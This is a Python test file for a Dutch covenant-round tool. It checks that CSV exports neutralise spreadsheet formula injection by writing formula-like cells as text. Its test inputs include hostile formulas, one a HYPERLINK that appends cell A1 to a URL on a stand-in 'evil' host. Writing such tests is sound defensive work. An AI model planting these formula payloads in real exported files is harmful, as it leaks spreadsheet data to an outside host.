"""CSV cells a spreadsheet would run as formulas are written as text (found in review: a
hand-edited name in a round file reached `status --csv` as '=HYPERLINK(…)')."""

from __future__ import annotations

import csv
import datetime as dt
import io
from pathlib import Path

import pytest

from toetreding.round.status import PartyState, PartyStatus, RoundStatus
from toetreding.spreadsheet import as_text_cell


@pytest.mark.parametrize(
    "value",
    ['=HYPERLINK("http://x?"&A1,"klik")', "+31 20 123", "-1+2", "@SUM(A1)", "\t=1", "\r=1"],
)
def test_a_formula_is_written_as_text(value: str) -> None:
    assert as_text_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["Huizen", "GM0406", "2026-12-01", "", 3, None])
def test_anything_else_is_left_as_it_is(value: object) -> None:
    assert as_text_cell(value) == value


def test_the_status_table_writes_a_hostile_name_as_text() -> None:
    party = PartyStatus(
        code="GM0402",
        name='=HYPERLINK("http://evil/?"&A1,"Hilversum")',
        state=PartyState.ACCEPTED,
        due=None,
        returns=1,
        last_return=None,
        signer="@kwaadwillend",
        reasons=[],
        effective_date="2026-12-01",
        renewal_due=None,
    )
    status = RoundStatus(
        round_id="R",
        covenant="c",
        covenant_title="C",
        folder=Path("ronde"),
        as_of=dt.date(2026, 12, 1),
        due=None,
        parties=[party],
    )
    rows = list(csv.reader(io.StringIO(status.to_csv())))
    assert rows[1][1].startswith("'=HYPERLINK") and rows[1][6] == "'@kwaadwillend"
